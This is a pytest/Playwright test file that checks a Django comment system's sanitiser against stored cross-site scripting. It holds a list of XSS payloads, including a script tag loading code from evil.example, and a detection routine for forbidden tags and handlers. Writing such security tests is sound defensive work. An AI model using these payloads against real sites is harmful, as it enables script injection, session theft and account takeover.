"""Hostile reader text through every field (name, website, body, edit), rendered in Chromium:
no script runs, and the thread holds no event handler, script, frame or javascript: address.

Each payload, if it ever ran, would call alert() or set window.__xss; both are watched from
before the page's own scripts run. The page is checked as served, after the script has inserted
fragments (another sort order, the reader's own comments), and after an edit.
"""

import contextlib

import pytest
from django.db import transaction
from django.utils import timezone
from django.utils.html import escape
from playwright.sync_api import expect

from masthead.comments.tests.conftest import tree_ensure
from masthead.core.refusal import Refusal
from masthead.inline.selectors import article_text
from tests.hostile import RUN, hostile_vectors

pytestmark = pytest.mark.django_db(transaction=True)

BASE = [
    f"<script>{RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN}>",
    f'<svg onload="{RUN}">',
    f"<svg><script>{RUN}</script></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>{RUN}</script>">',
    f'<body onload="{RUN}">',
    f'<details open ontoggle="{RUN}">',
    f'<input autofocus onfocus="{RUN}">',
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">x</a>',
    f'<a href="&#106;avascript:{RUN}">x</a>',
    f'<a href="java\tscript:{RUN}">x</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">x</a>',
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f"<style>@import 'javascript:{RUN}';</style>",
    f'<div style="background:url(javascript:{RUN})">x</div>',
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"<!--<script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<img src="x" onerror="{RUN}"',
    f"<img/src=x/onerror={RUN}>",
    f"<scr<script>ipt>{RUN}</script>",
    f"[click](javascript:{RUN})",
    f"[click](JAVASCRIPT:{RUN})",
    f"[click](  javascript:{RUN})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{RUN})",
    f'![img](x" onerror="{RUN})',
    f"![x](javascript:{RUN})",
    f'[x](https://example.org" onclick="{RUN})',
    f"[x]: javascript:{RUN}\n\n[ref][x]",
    f"<javascript:{RUN}>",
    f'<https://example.org/"onmouseover="{RUN}>',
    f"`<script>{RUN}</script>`",
    f"```html\n<script>{RUN}</script>\n```",
    f"> <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>",
    f"*<img src=x onerror={RUN}>*",
    f"\u202e<script>{RUN}</script>",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f'<a href="javas\u0000cript:{RUN}">x</a>',
    f'<a href="\u2028javascript:{RUN}">x</a>',
    "<img src=x onerror=&#97;lert(1)>",
    f'<a href="javascript&colon;{RUN}">x</a>',
    f'<form action="javascript:{RUN}"><button>x</button></form>',
    f'<meta http-equiv=refresh content="0;javascript:{RUN}">',
    f'<base href="javascript:{RUN}//">',
    f'<link rel=import href="data:text/html,<script>{RUN}</script>">',
    f'<video><source onerror="{RUN}"></video>',
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<x onclick={RUN}>click",
]
VECTORS = hostile_vectors()
REPLIES = 400  # comments per root in the stored thread
# Editor's text a passage comment can quote: markup-like words in the article itself reach the
# feedback list, the passage links (#:~:text=) and the script's quote labels.
PASSAGE = f'The clerk read out <img src=x onerror="{RUN}"> and "><script>{RUN}</script> verbatim.'


@pytest.fixture
def hostile_article(live_server, settings):
    from masthead.newsroom.services import article_publish, home_ensure

    settings.COMMENTS_SCREEN = "masthead.comments.screening.approve_all"
    settings.PAGE_CACHE_SECONDS = 0
    settings.COMMENTS_PAGE_SIZE = 10_000
    settings.COMMENTS_REPLIES_SHOWN = 1000
    tree_ensure()
    home, _ = home_ensure(title="The Riverside Ledger")
    return article_publish(
        home=home,
        title="Hostile input",
        slug="hostile-input",
        standfirst="",
        body=[("paragraph", f"<p>{escape(PASSAGE)}</p>")],
        authors=[],
        topics=[],
    )


def _cleaned(field: str, value: str) -> str | None:
    """The value as comment_create would store it in `field`, or None when it is refused there."""
    from masthead.comments.validation import comment_input_clean

    data = {"body": "A comment.", "author_name": "Reader", "author_email": "r@example.org", field: value}
    try:
        cleaned = comment_input_clean(data=data, user=None)
    except Refusal:
        return None
    return getattr(cleaned, field)


def _store_every_vector(article) -> tuple[dict[str, int], list[int]]:
    """Every vector through the posting form's validation, as body, as name (cut to the 80
    letters a name may have) and as website (as given, and inside an https address); what is
    accepted is stored with the bulk writer (the same Markdown renderer and sanitiser as a post).
    Returns how many each field accepted and the ids, in the order of VECTORS."""
    from masthead.comments.importing import CommentImport, comments_import

    stored: dict[str, int] = {"body": 0, "author_name": 0, "author_url": 0}
    rows = []
    for n, vector in enumerate(VECTORS):
        body, name = _cleaned("body", vector), _cleaned("author_name", vector[:80])
        url = _cleaned("author_url", vector) or _cleaned("author_url", f"https://example.org/{vector}")
        stored["body"] += body is not None
        stored["author_name"] += name is not None
        stored["author_url"] += bool(url)
        rows.append((f"v{n}", body or "A comment.", name or "Reader", url or ""))
    # Replies of a few roots, so that one page shows them all (a page of thousands of roots
    # is more than SQLite's 500 terms of a compound SELECT in the replies query).
    now = timezone.now()
    made = comments_import(
        comments=[
            CommentImport(
                key, article.pk, f"v{n - n % REPLIES}" if n % REPLIES else None, name, "r@example.org",
                url, now, body, "approved",
            )
            for n, (key, body, name, url) in enumerate(rows)
        ],
        known={},
    )  # fmt: skip
    return stored, [made[f"v{n}"] for n in range(len(VECTORS))]


def _edit_every_vector(reader, ids: list[int]) -> int:
    """Every vector again as the edit of a stored comment, through comment_edit; the comments
    are made `reader`'s own first (as if they had written them: in the edit window)."""
    from masthead.comments.models import Comment
    from masthead.comments.services import Posting, comment_edit

    Comment.objects.filter(pk__in=ids).update(edit_key_hash=reader.key_hash)
    targets = Comment.objects.filter(pk__in=ids).select_related("page").in_bulk()
    posting, edited = Posting(reader=reader, network="x"), 0
    with transaction.atomic():
        # Each comment gets a vector other than its own, so that an edit changes every body.
        for pk, vector in zip(ids, VECTORS[1:] + VECTORS[:1], strict=True):
            with contextlib.suppress(Refusal):  # refused: the comment keeps its text
                comment_edit(comment=targets[pk], body=vector, posting=posting)
                edited += 1
    return edited


def _quote_passages(article, reader, vectors: list[str]) -> int:
    """Passage comments through the reader's path (comment_create with the passage fields):
    each quotes the article's markup-like passage, with a vector as body and as name."""
    from masthead.comments.services import Posting, comment_create

    start = article_text(page=article).text.index(PASSAGE)
    quoted = 0
    for vector in vectors:
        data = {
            "body": vector,
            "author_name": vector[:80],
            "author_email": "r@example.org",
            "inline_exact": PASSAGE,
            "inline_start": str(start),
            "inline_end": str(start + len(PASSAGE)),
        }
        with contextlib.suppress(Refusal):
            comment_create(page=article, data=data, posting=Posting(reader=reader, network="x"))
            quoted += 1
    return quoted


WATCH = """
window.__alerts = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__alerts.push(name); };
}
Object.defineProperty(window, "__xss", { set() { window.__alerts.push("__xss"); }, get() { return 0; } });
"""

CHECK = """() => {
  // Everything a reader wrote: the comments (head and body), the feedback list, the script's panels.
  const READER = ".c-head, .c-body, .inline-feedback, .inline-panel";
  const FORBIDDEN = ["SCRIPT", "IFRAME", "OBJECT", "EMBED", "SVG", "MATH", "STYLE", "BASE", "META", "LINK",
    "IMG", "VIDEO", "AUDIO", "TEMPLATE", "INPUT", "FORM", "BUTTON", "AREA", "NOSCRIPT"];
  const URLS = ["href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster"];
  const bad = [];
  for (const el of document.querySelectorAll("#comments *, [data-inline-feedbacks] *, .inline-panel *")) {
    for (const attr of el.attributes) {
      const value = attr.value;
      if (attr.name.startsWith("on")) bad.push(`${el.tagName} ${attr.name}`);
      if (URLS.includes(attr.name) && /^[\\s\\u0000-\\u0020]*(javascript|data|vbscript):/i.test(value)) {
        bad.push(`${el.tagName} ${attr.name}=${value}`);
      }
      if (attr.name === "style" && /url\\(|expression\\(|binding/i.test(value)) bad.push(`style=${value}`);
    }
    if (FORBIDDEN.includes(el.tagName.toUpperCase()) && el.closest(READER)) bad.push(el.outerHTML);
  }
  return bad;
}"""


def _post_over_http(page, article, vectors: list[str]) -> list[int]:
    """A sample posted by the browser itself (fetch, same origin) to the form's address."""
    return page.evaluate(
        """async ([url, vectors]) => {
          const statuses = [];
          for (const v of vectors) {
            const body = new FormData();
            body.append("body", v);
            body.append("author_name", v.slice(0, 80));
            body.append("author_email", "r@example.org");
            const r = await fetch(url, {method: "POST", body, headers: {"X-Masthead-Fragment": "1"}});
            statuses.push(r.status);
          }
          return statuses;
        }""",
        [f"/comments/{article.pk}/post/", vectors],
    )


def watch(page) -> list[str]:
    """The page's script errors and dialogs, collected; alert() and window.__xss watched from
    before the page's own scripts run."""
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("dialog", lambda dialog: (errors.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.add_init_script(WATCH)
    return errors


def _inert(page) -> None:
    assert page.evaluate("window.__alerts") == []
    assert page.evaluate(CHECK) == []


def test_two_thousand_hostile_inputs_run_nothing(page, hostile_article, live_server):
    """Every vector as body, name and website, then as an edit; a sample as passage comments
    and through HTTP. The thread as served, with the passage panel open, and once more as the
    script inserts it (another sort order) after the edits."""
    from masthead.comments.identity import Reader

    reader = Reader(user=None, guest_id="hostile-reader")
    stored, ids = _store_every_vector(hostile_article)
    quoted = _quote_passages(hostile_article, reader, VECTORS[:: len(VECTORS) // 100][:100])
    assert len(VECTORS) >= 2000
    assert min(stored["body"], stored["author_name"]) >= 0.9 * len(VECTORS), stored
    assert stored["author_url"] >= len(VECTORS) // 20 and quoted >= 90, (stored, quoted)

    errors = watch(page)
    page.goto(f"{live_server.url}/search/")  # a light page of the site, to post from
    statuses = _post_over_http(page, hostile_article, VECTORS[:: len(VECTORS) // 40][:40])
    assert set(statuses) <= {201, 400, 413} and statuses.count(201) >= 20, statuses
    shown = len(ids) + quoted + statuses.count(201)

    page.goto(f"{live_server.url}/hostile-input/")
    expect(page.locator("#comments-count")).to_have_text(f"{shown} Comments")
    assert page.locator("[data-thread] .c").count() == shown
    assert page.locator("[data-inline-feedbacks] li").count() == quoted
    page.mouse.move(10, 10)
    page.keyboard.press("Tab")
    page.locator("button.inline-count").click()  # opens the passage's panel: clones of the feedback
    _inert(page)

    edited = _edit_every_vector(reader, ids)
    assert edited >= 0.9 * len(VECTORS)
    page.get_by_role("link", name="Newest").click()  # the edited thread, inserted by the script
    expect(page.get_by_role("link", name="Newest")).to_have_attribute("aria-current", "true")
    expect(page.locator(".c-edited")).to_have_count(edited, timeout=60_000)
    _inert(page)
    assert errors == []


def test_hostile_text_typed_into_the_form_and_the_edit_box_runs_nothing(page, hostile_article, live_server):
    page.add_init_script(WATCH)
    page.goto(f"{live_server.url}/hostile-input/")
    form = page.locator("#respond")
    for number, text in enumerate(BASE[:12]):
        form.get_by_role("textbox", name="Comment").fill(text)
        form.get_by_label("Name").fill(f'<img src=x onerror="{RUN}">{number}')
        form.get_by_label("Email").fill("r@example.org")
        form.get_by_role("button", name="Post Comment").click()
        expect(form.get_by_role("button", name="Post Comment")).to_be_enabled()  # the answer came
        expect(form.get_by_role("textbox", name="Comment")).to_have_value("")
    mine = page.locator(".c", has_text='xss=1">11')
    mine.get_by_role("link", name="Edit").click()
    mine.get_by_role("textbox", name="Comment").fill(f'<svg onload="{RUN}"> and [x](javascript:{RUN})')
    mine.get_by_role("button", name="Save").click()
    expect(page.locator(".c-edited").first).to_be_visible()
    page.reload()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__alerts") == [] and page.evaluate(CHECK) == []
